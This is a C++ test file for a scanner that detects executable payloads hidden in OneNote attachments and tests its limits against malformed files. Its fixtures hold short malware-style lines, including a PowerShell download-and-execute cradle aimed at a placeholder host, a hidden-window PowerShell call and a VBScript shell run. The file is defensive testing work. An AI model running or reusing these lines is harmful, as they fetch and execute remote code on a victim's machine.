// OneNote embedded files: .one files written in the test (the revision store
// header GUID and FileDataStoreObject blocks around real payload bytes).
#include <catch2/catch.hpp>

#include <chrono>
#include <set>

#include "attach/onenote.hpp"
#include "office_fixtures.hpp"
#include "support/cpu_time.hpp"

using namespace postern::attach;
using namespace office_fixtures;

namespace {

const std::string kSignature("\xE4\x52\x5C\x7B\x8C\xD8\xA7\x4D\xAE\xB1\x53\x78\xD0\x29\x96\xD3",
                             16);
const std::string kStore("\xE7\x16\xE3\xBD\x65\x26\x11\x45\xA4\xC4\x8D\x4D\x0B\x7A\x9E\xAC", 16);
const std::string kFooter("\x22\xA7\xFB\x71\x79\x0F\x0B\x4A\xBB\x13\x89\x92\x56\x42\x6B\x24", 16);

std::string store_object(std::string_view payload, uint64_t claimed) {
  std::string s = kStore + le32(static_cast<uint32_t>(claimed)) +
                  le32(static_cast<uint32_t>(claimed >> 32)) + std::string(12, '\0') +
                  std::string(payload);
  s.resize((s.size() + 7) / 8 * 8, '\0');
  return s + kFooter;
}

// A .one file: the header (signature GUID and 1 KiB of header fields), then blocks.
std::string one_file(const std::vector<std::string>& payloads) {
  std::string s = kSignature + std::string(1024 - 16, '\0');
  for (const std::string& p : payloads) s += std::string(40, '\x11') + store_object(p, p.size());
  return s;
}

const std::string kLnk("\x4C\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xC0\x00", 14);

}  // namespace

TEST_CASE("OneNote payload types: what runs when opened and what does not") {
  struct Case {
    std::string bytes;
    const char* kind;
    bool executable;
  };
  const Case cases[] = {
      {std::string("MZ\x90\x00\x03\x00\x00\x00", 8) + "This program cannot be run in DOS mode",
       "PE executable", true},
      {kLnk, "Windows shortcut (LNK)", true},
      {"<html><head><HTA:APPLICATION id=x><script language=\"VBScript\">", "HTA/HTML with script",
       true},
      {"\xEF\xBB\xBF  @ECHO OFF\r\npowershell -w hidden", "batch script", true},
      {"$c = New-Object Net.WebClient; IEX($c.DownloadString('http://x'))", "PowerShell script",
       true},
      {"Set o = CreateObject(\"WScript.Shell\")\r\no.Run \"calc\"", "VBScript/JScript", true},
      {"<?xml version=\"1.0\"?><package><job id=\"a\">", "Windows Script File", true},
      {"ITSF\x03\x00\x00\x00", "CHM help", true},
      {"\x89PNG\r\n\x1a\n....IHDR", "image", false},
      {"\xFF\xD8\xFF\xE0..JFIF", "image", false},
      {"%PDF-1.7\n", "PDF", false},
      {"PK\x03\x04 zip", "ZIP archive", false},
      {"Meeting notes: call Bob at 10.", "data", false},
  };
  for (const Case& c : cases) {
    INFO(c.kind);
    bool exe = !c.executable;
    CHECK(sniff_payload(c.bytes, &exe) == c.kind);
    CHECK(exe == c.executable);
  }
}

TEST_CASE("OneNote files: embedded files counted, programs and scripts called out") {
  struct Case {
    const char* what;
    std::vector<std::string> payloads;
    std::set<std::string> want;
    const char* detail_has;  // in the strongest hit
  };
  const Case cases[] = {
      {"no embedded file", {}, {}, ""},
      {"two pictures",
       {"\x89PNG\r\n\x1a\n1", "\xFF\xD8\xFF\xE0 2"},
       {"ATTACH_ONENOTE_EMBEDDED"},
       "2 embedded file(s): image"},
      {"a picture and an HTA (the 2023 lure)",
       {"\x89PNG\r\n\x1a\nbutton", "<hta:application><script>x</script>"},
       {"ATTACH_ONENOTE_EMBEDDED", "ATTACH_ONENOTE_EMBEDDED_EXECUTABLE"},
       "HTA/HTML with script at offset"},
      {"a batch file and a shortcut",
       {"@echo off\r\nstart x.exe", kLnk},
       {"ATTACH_ONENOTE_EMBEDDED", "ATTACH_ONENOTE_EMBEDDED_EXECUTABLE"},
       "batch script at offset"},
  };
  for (const Case& c : cases) {
    INFO(c.what);
    std::string file = one_file(c.payloads);
    REQUIRE(is_onenote(file));
    auto scan = scan_onenote(file);
    CHECK(symbols(scan.hits) == c.want);
    CHECK(scan.count == c.payloads.size());
    REQUIRE(scan.payloads.size() == c.payloads.size());
    for (size_t i = 0; i < c.payloads.size(); ++i) CHECK(scan.payloads[i].data == c.payloads[i]);
    if (c.want.empty()) continue;
    const Hit& strongest = scan.hits[c.want.size() > 1 ? 1 : 0];
    CHECK(strongest.detail.find(c.detail_has) != std::string::npos);
  }
  CHECK(scan_onenote("MZ not a OneNote file" + kStore).hits.empty());
}

TEST_CASE("hostile OneNote files: lying lengths and floods of blocks stay bounded") {
  // A length past the end: the payload is cut at the file's end and the file is malformed.
  std::string cut = kSignature + std::string(100, '\0') +
                    store_object("MZ program", uint64_t{1} << 40).substr(0, 36 + 10);
  auto scan = scan_onenote(cut);
  CHECK(symbols(scan.hits) == std::set<std::string>{"ATTACH_ONENOTE_EMBEDDED",
                                                    "ATTACH_ONENOTE_EMBEDDED_EXECUTABLE",
                                                    "ATTACH_OFFICE_MALFORMED"});
  REQUIRE(scan.payloads.size() == 1);
  CHECK(scan.payloads[0].truncated);
  CHECK(scan.payloads[0].data == "MZ program");

  // A block claiming a huge length cannot hide the blocks inside its claim.
  std::string hiding = kSignature + std::string(16, '\0') + store_object("x", 1u << 30) +
                       store_object("MZ hidden", 9);
  scan = scan_onenote(hiding);
  CHECK(scan.count == 2);
  CHECK(symbols(scan.hits).contains("ATTACH_ONENOTE_EMBEDDED_EXECUTABLE"));

  // 20 000 blocks: counted, at most max_payloads passed on, linear time.
  std::vector<std::string> flood(20'000, "\x89PNG\r\n\x1a\n");
  std::string many = one_file(flood);
  const double secs = test::thread_cpu_seconds([&] { scan = scan_onenote(many); });
  CHECK(scan.count == 20'000);
  CHECK(scan.payloads.size() == OneNoteLimits{}.max_payloads);
  CHECK(symbols(scan.hits) ==
        std::set<std::string>{"ATTACH_ONENOTE_EMBEDDED", "ATTACH_OFFICE_LIMIT"});
  CHECK(secs < test::kHangGuardSeconds);  // a hang guard: tests/bench measures the speed

  OneNoteLimits l;
  l.max_payload_bytes = 4;
  const std::string small = one_file({"MZ whatever"});  // payloads point into the file
  scan = scan_onenote(small, l);
  REQUIRE(scan.payloads.size() == 1);
  CHECK(scan.payloads[0].data == "MZ w");
}
